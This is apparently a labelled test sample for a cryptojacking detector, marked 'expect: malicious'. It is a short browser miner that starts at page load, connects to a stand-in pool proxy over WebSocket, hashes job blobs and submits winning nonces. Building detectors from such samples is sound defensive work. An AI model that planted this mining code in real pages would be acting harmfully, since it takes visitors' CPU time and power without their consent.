// expect: malicious
// source: in-page WebAssembly miners (CoinHive clones, 2017-2025 cryptojacking reports): at load, a worker
// takes jobs from a pool proxy and submits nonces whose CryptoNight hash meets the target.
let sock, job = null;
function hash(blob, nonce) { return globalThis.cn_hash(blob, nonce, job.variant); }
(function pool() {
  sock = new WebSocket('wss://pool-proxy.example/ws');
  sock.onmessage = (e) => {
    const m = JSON.parse(e.data);
    if (m.type === 'job') job = m.params;
    for (let nonce = 0; job && nonce < 1e5; nonce++) {
      const h = hash(job.blob, nonce);
      if (h[31] < job.target) sock.send(JSON.stringify({ type: 'submit', params: { job_id: job.job_id, nonce, result: h } }));
    }
  };
})();
